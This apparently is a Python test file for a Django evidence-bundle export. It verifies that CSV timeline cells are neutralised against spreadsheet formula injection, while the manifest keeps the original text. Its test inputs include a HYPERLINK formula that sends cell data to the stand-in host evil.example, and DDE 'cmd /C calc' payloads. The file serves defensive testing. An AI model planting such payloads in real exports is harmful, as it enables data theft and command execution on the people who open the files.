"""timeline.csv: what a collector or a witness typed never runs as a spreadsheet formula."""
import csv
import io
import json
import zipfile

from django.utils import timezone

from evidence.bundle.services import bundle_export_file
from evidence.cases.services import entry_create
from evidence.lib.spreadsheet import safe_cell

HOSTILE = {
    "content": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "number": "+cmd|' /C calc'!A0",
    "claimed_identity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_name": "-2+3+cmd|' /C calc'!A0",
    "contact_relation": "\t=1+1",
    "notes": "\r=1+1",
}


def test_formula_cells_are_neutralised_and_the_manifest_keeps_the_text(case, borrower, tmp_path):
    entry, _ = entry_create(case=case, actor=borrower, kind="sms", occurred_at=timezone.now(),
                            direction="incoming", **{k: v for k, v in HOSTILE.items() if k != "notes"})
    path = tmp_path / "b.zip"
    bundle_export_file(case=case, path=path, selection={})
    with zipfile.ZipFile(path) as zf:
        raw = zf.read("timeline.csv").decode("utf-8-sig")
        manifest = json.loads(zf.read("manifest.json"))
    rows = list(csv.reader(io.StringIO(raw)))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row))
    for column, field in (("内容", "content"), ("号码", "number"), ("对方自称", "claimed_identity"),
                          ("联系人", "contact_name"), ("关系", "contact_relation")):
        assert cells[column] == "'" + HOSTILE[field], column
    assert not any(c and c[0] in "=+-@\t\r" for r in rows for c in r)  # 0 of the hostile cells raw
    assert raw.splitlines()[1].startswith('"')  # every cell quoted
    # The exact text, untouched, where the evidence is: the manifest (and the catalog).
    entries = manifest["entries"] if "entries" in manifest else manifest["items"]
    mine = next(e for e in entries if e.get("content") == HOSTILE["content"])
    assert mine["number_called_from"] == HOSTILE["number"] and mine["claimed_identity"] == HOSTILE["claimed_identity"]


def test_ordinary_text_is_left_alone():
    for text in ("请不要再打了", "13800138000", "借呗 12,000 元", "", "a=b", "1-2"):
        assert safe_cell(text) == text
    assert safe_cell(3) == 3
    assert safe_cell("=1") == "'=1" and safe_cell("\r=1") == "'\r=1"
